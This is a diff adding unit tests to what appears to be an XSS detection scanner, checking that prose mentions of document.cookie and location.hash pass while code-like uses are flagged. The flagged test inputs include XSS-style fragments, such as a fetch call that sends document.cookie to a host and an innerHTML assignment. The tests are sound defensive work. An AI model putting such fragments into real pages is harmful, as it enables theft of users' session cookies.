@@ -430,3 +430,24 @@ describe('xss: a form action or htmx request attribute pointing to another site'
   });
   it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
 });
+
+describe('xss: a member of a held property stays held', () => {
+  // location.hash.slice(1) and document.cookie.length named in a sentence (a space and a word after them) are prose;
+  // anything else after the member or its call reports the property, spanned as the property
+  const clean = ['location.hash.slice(1) gives me the anchor', 'document.cookie.length is zero in Safari', 'document.cookie. Then it is gone',
+    'location.search.substring(1) returns the query'];
+  it.each(clean)('%s is allowed', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).not.toContain('xss.js-sink');
+    expect(r.blocked).toBe(false);
+  });
+  const hits = ["document.cookie.split(';')", 'location=location.hash.slice(1)', "fetch('//q?'+document.cookie.slice(1))", 'document.cookie.length',
+    'x(document.cookie.length)', 'document.cookie.zz(q) is', 'document.cookie.slice(1)+1', "document.body.innerHTML = ''", 'window.location.href'];
+  it.each(hits)('%s reports the property', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
+  });
+  it('spans the property', () => {
+    expect(d.scan("document.cookie.split(';')", { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 15 });
+  });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
+});
